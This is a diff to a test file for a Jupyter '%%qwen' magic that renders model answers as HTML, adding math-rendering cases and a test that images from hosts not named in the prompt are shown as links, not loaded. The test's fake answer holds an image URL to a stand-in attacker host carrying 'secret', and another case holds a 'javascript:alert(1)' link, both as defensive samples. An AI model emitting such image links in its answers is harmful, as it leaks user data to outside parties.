@@ -340,6 +340,9 @@ DOLLAR_CASES = [
     ("a \\( b", []),
     ("C:\\Users\\(x) and \\begin{x}", []),
     ("$\\href{javascript:alert(1)}{x}$", []),  # TeX that makes links stays text
+    ("$$\na $$ b\n$$\n", ["$$\na $$"]),  # a display block MathJax would end early is not one block
+    ("\\begin{align}\na &= b\n\\end{align}\n", ["\\begin{align}\na &= b\n\\end{align}"]),
+    ("$$\n{a\n$$\n", []),
 ]
 
 
@@ -480,11 +483,11 @@ def test_ordinary_markdown_renders_as_before() -> None:
                 "<table>", '<th style="text-align:right">', "<ol>", "<ul>", "<hr>",
                 "<code>inline &lt;div&gt; code</code>", '<a href="https://example.com/path?q=1&amp;r=2#frag"',
                 '<img src="https://example.com/img.png" alt="diagram" title="Title">', 'href="docs/a.md"',
-                '<pre><code class="language-python">', '<code class="language-html">']:  # fmt: skip
+                '<pre class="highlight"><code class="language-python">', '<code class="language-html">']:  # fmt: skip
         assert tag in out, tag
-    # Python is coloured with JupyterLab's editor colours; HTML in code stays text.
+    # Python is coloured with Pygments' classes (JupyterLab styles them); HTML in code stays text.
     assert "alert(" in visible_text(out) and "&lt;" in out.split('<code class="language-html">')[1].split("</code>")[0]
-    assert '<span style="color:var(--jp-mirror-editor-keyword-color)">def</span>' in out
+    assert '<span class="k">def</span>' in out
     assert typeset(out) == ["$a<b$", "$x^2 + y^2 = z^2$", "$$\n\\int_0^1 f(x)\\,dx < \\infty\n$$",
                             "$a<b$"]  # fmt: skip
     assert "costs of $5 and $10" in visible_text(out)
@@ -824,3 +827,24 @@ def test_a_long_open_tail_stays_safe_and_cheap_while_live() -> None:
     markdown_bundle(code, live=True)
     grown = markdown_bundle(code + "print(2)\n", live=True)["text/html"]
     assert grown.endswith("print(2)\n</code></pre>\n</div>")  # the newest lines inside the code block
+
+
+@pytest.mark.kernel
+def test_answer_images_in_a_real_cell(fresh) -> None:
+    """Through %%qwen: hosts the prompt named load, others are links; `show` loads them all."""
+    from fake_dashscope import Stream
+
+    answer = "Here: ![chart](https://mine.example/c.png) and ![leak](https://evil.example/x.png?q=secret)\n"
+    fresh.server.queue(Stream(text=answer))
+    run = fresh.run("%%qwen\nPlot the data at https://mine.example/data.csv")
+    html = "".join(run.data("text/html"))
+    assert '<img src="https://mine.example/c.png" alt="chart">' in html
+    assert "evil.example/x.png" in html and '<img src="https://evil.example' not in html
+    assert "🖼 image from evil.example — open" in html
+    fresh.run("%config QwenMagics.answer_images = 'show'")
+    fresh.server.queue(Stream(text=answer))
+    html = "".join(fresh.run("%%qwen\nAgain").data("text/html"))
+    assert html.count("<img ") == 2
+    fresh.run("%config QwenMagics.answer_images = 'link'")
+    wrong = fresh.run("%config QwenMagics.answer_images = 'sometimes'")
+    assert "answer_images" in wrong.error_text + wrong.stderr
